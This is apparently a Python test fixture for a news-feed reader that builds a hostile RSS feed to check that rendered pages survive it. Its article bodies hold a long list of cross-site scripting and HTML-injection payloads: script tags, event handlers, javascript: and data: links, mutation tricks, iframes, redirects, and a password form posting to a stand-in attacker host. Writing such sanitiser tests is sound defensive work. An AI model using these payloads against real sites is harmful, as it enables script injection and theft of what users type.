"""A feed by somebody who wishes readers ill: what a page that shows it must survive.

Each body tries one way to run code, to load what is no picture, to catch what people type, or to
break out of its place in the page.
"""

from __future__ import annotations

from typing import Final

from newsfeed import Article, Category, Feed, Image, parse_lenient

#: One way each; all of them say PWNED where they would do so by code.
BODIES: Final = tuple(
    r"""
<script>document.title='PWNED'</script><p>text</p>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>document.title='PWNED'</scr</script>ipt>
<img src=x onerror="document.title='PWNED'">
<img src='https://evil.example/a.png' alt='" onload="document.title=`PWNED`'>
<img src='javascript:document.title=1'><img srcset='javascript:alert(1) 1x'>
<svg onload="document.title='PWNED'"><script>document.title='PWNED'</script></svg>
<svg><style><img src=x onerror=document.title='PWNED'></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=alert(1)&gt;'>
<a href='javascript:document.title=1'>click</a><a href='java\nscript:alert(1)'>click</a>
<a href='  JaVaScRiPt:alert(1)'>click</a><a href='data:text/html,<script>alert(1)</script>'>x</a>
<a href='https://evil.example/' target='_self' onclick='alert(1)' ping='/p'>honest</a>
<iframe src='https://evil.example/f'></iframe><object data='/o'></object><embed src='/e'>
<iframe srcdoc='<script>parent.document.title=`PWNED`</script>'></iframe>
<form action='https://evil.example/take'><input type='password' autofocus onfocus='alert(1)'>
<button formaction='javascript:alert(1)'>Log in</button></form>
<base href='https://evil.example/'><meta http-equiv='refresh' content='0;url=//evil.example/'>
<link rel='stylesheet' href='https://evil.example/x.css'><style>body{display:none}</style>
<p style='position:fixed;inset:0;background:url(https://evil.example/track)'>over all</p>
</div></article></main></body></html><h1>Outside</h1><p id='stories' class='invitation'>x</p>
<div><div><p>never closed <b><i><blockquote><ul><li>
<!-- never closed <p>hidden
<textarea>swallows </article> the rest
<plaintext>swallows the rest
<template><p>x</p></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>
<input id='address' value='https://evil.example/feed.xml'><img id='about' name='getSelection'>
<video src='https://evil.example/v.mp4' autoplay onloadstart='alert(1)'></video>
<audio src='https://evil.example/a.mp3' autoplay></audio><audio><source src='/b.mp3'></audio>
<h1>one</h1><h6>six</h6><h1></h1><h2><img src='https://evil.example/h.png'></h2>
<table><tr><th></th><td><table><tr><td>inner</table><form><td></table>
<ul><p>no item</p></ul><li>no list</li><dd>no list</dd><details><summary></summary>x</details>
<a href='https://evil.example/'></a><a href='https://evil.example/'><img src='/i.png'></a>
<p lang='" onload="x' dir='sideways' tabindex='9' accesskey='a' contenteditable>marks</p>
<p>\u202eright to left\u2066\u200f \ufeff\u0000\u0008</p><p>&#0;&#xD800;&#x110000;&bogus;</p>
]]>&lt;script&gt;document.title='PWNED'&lt;/script&gt;
<a href='x'>relative</a><img src='x.png' srcset='x.png 1x, https://evil.example/y.png 2x'>
""".strip()
    .encode()
    .decode("unicode_escape")
    .replace("\nscript:", "\tscript:")
    .split("\n")
)

#: Texts where plain text is due.
TEXT: Final = "</title></style></h2>'\"><script>document.title='PWNED'</script>&amp;<!--"

_RSS: Final = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"
 xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:atom="http://www.w3.org/2005/Atom">
<channel><title>{text}</title><link>javascript:alert(1)</link><description>{text}</description>
<language>en" onload="alert(1)</language>
<atom:link rel="self" href="javascript:alert(1)"/>
<image><url>javascript:alert(1)</url><title>{text}</title><link>data:text/html,x</link></image>
<copyright>{text}</copyright>
{items}
</channel></rss>
"""
_ITEM: Final = """<item><title>{text}</title><link>javascript:alert({number})</link>
<guid isPermaLink="false">{number}</guid><author>{text}</author><category>{text}</category>
<comments>javascript:alert(1)</comments><source url="javascript:alert(1)">{text}</source>
<description>{text}</description><content:encoded>{body}</content:encoded>
<media:content url="https://evil.example/{number}.jpg" medium="image">
<media:credit>{text}</media:credit>
<media:description>{text}</media:description></media:content>
<media:content url="javascript:alert(1)" medium="image"/></item>"""


def _escaped(text: str) -> str:
    text = "".join(each for each in text if each.isprintable() or each == "\n")
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def document() -> bytes:
    """Return the feed as RSS."""
    items = "\n".join(
        _ITEM.format(number=number, text=_escaped(TEXT), body=_escaped(body))
        for number, body in enumerate(BODIES)
    )
    return _RSS.format(text=_escaped(TEXT), items=items).encode()


def parsed() -> Feed:
    """Return the feed as `parse_lenient` reads it."""
    return parse_lenient(document(), url="https://evil.example/feed.xml").feed


def made() -> Feed:
    """Return a feed of the same bodies that nobody has parsed."""
    return Feed(
        title=TEXT, link="https://evil.example/", url="https://evil.example/feed.xml?a='\"><b>&c",
        description=TEXT, rights=TEXT, generator=TEXT, authors=[TEXT],
        articles=[
            Article(
                title=TEXT, id=str(number), link=f"https://evil.example/{number}?'\"><script>",
                summary=TEXT, content=body, categories=[Category(TEXT)], rights=TEXT,
                media=[Image(f"https://evil.example/{number}.jpg?\"'<>", credit=TEXT, caption=TEXT,
                             alt=TEXT)],
            )
            for number, body in enumerate(BODIES)
        ],
    )  # fmt: skip
